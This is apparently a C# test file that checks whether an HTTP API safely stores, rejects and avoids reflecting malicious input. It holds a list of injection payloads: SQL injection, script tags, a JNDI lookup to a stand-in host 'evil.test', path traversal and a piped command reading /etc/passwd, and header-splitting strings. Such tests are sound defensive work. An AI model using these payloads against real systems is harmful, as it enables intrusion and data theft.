using System.Text.Encodings.Web;
using System.Text.Json;

namespace OpenApiGen.Runtime.Tests.Http.Answers;

/// <summary>Strings that do harm elsewhere are just strings here, and errors do not repeat what they were given.</summary>
public sealed class InjectionTests : AnswersFixture
{
    private static readonly JsonSerializerOptions Relaxed = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    private static readonly string[] Strings =
    [
        "' OR '1'='1' --",
        "'; DROP TABLE things; --",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.test/a}",
        "{{7*7}}",
        "../../../../etc/passwd",
        "| cat /etc/passwd",
        "\r\nSet-Cookie: admin=1",
        "\0\u0001\u001b[31m",
        "\u202e\u2066\ufeff",
        "{\"$gt\":\"\"}",
    ];

    [TestCaseSource(nameof(Strings))]
    public async Task In_a_field_that_takes_any_text(string text)
    {
        Answer answer = await PostAsync("/things", $$"""{"name":{{JsonSerializer.Serialize(text)}},"amount":1}""");
        Assert.That(answer.Status, Is.EqualTo(201), answer.Body);
        Assert.That(JsonElement.Parse(answer.Body).GetProperty("name").GetString(), Is.EqualTo(text));
        Assert.That(answer.Headers, Does.Not.ContainKey("Set-Cookie"));
    }

    [TestCaseSource(nameof(Strings))]
    public async Task In_a_field_that_does_not(string text)
    {
        Answer answer = await PostAsync("/things", $$"""{"name":"one","amount":1,"email":{{JsonSerializer.Serialize(text)}}}""");
        ErrorAssert.IsEnvelope(answer, 400, ErrorCodes.ValidationError, "/email: format");
        AssertNotReflected(answer, text);
    }

    [TestCaseSource(nameof(Strings))]
    public async Task In_a_query(string text)
    {
        Answer answer = await Service.GetAsync("/things?limit=" + Uri.EscapeDataString(text));
        ErrorAssert.IsEnvelope(answer, 400, ErrorCodes.ValidationError, "query/limit: type");
        AssertNotReflected(answer, text);
    }

    [TestCaseSource(nameof(Strings))]
    public async Task In_a_path(string text)
    {
        Answer answer = await Service.GetAsync("/things/" + Uri.EscapeDataString(text));
        Assert.That(answer.Status, Is.EqualTo(400).Or.EqualTo(404), answer.Body);
        AssertNotReflected(answer, text);
    }

    [TestCaseSource(nameof(Strings))]
    public async Task In_an_unknown_address(string text)
    {
        Answer answer = await Service.GetAsync("/nothing/" + Uri.EscapeDataString(text));
        Assert.That(answer.Status, Is.EqualTo(400).Or.EqualTo(404), answer.Body);
        AssertNotReflected(answer, text);
    }

    [Test]
    public async Task As_the_name_of_a_property_is_escaped()
    {
        Answer answer = await PostAsync("/things", """{"name":"one","amount":1,"<script>alert(1)</script>":1}""");
        ErrorAssert.IsEnvelope(answer, 400, ErrorCodes.ValidationError, "/<script>alert(1)<~1script>: additionalProperties");
        Assert.That(answer.Headers["X-Content-Type-Options"], Is.EqualTo("nosniff"));
        Assert.That(answer.Body, Does.Not.Contain("<script>"));
    }

    private static void AssertNotReflected(Answer answer, string text)
    {
        string unescaped = answer.Body.Length == 0 ? "" : JsonSerializer.Serialize(JsonElement.Parse(answer.Body), Relaxed);
        Assert.That(unescaped.Contains(text, StringComparison.Ordinal), Is.False, unescaped);
        Assert.That(answer.Headers.Values.Any(v => v.Contains(text, StringComparison.Ordinal)), Is.False);
    }
}
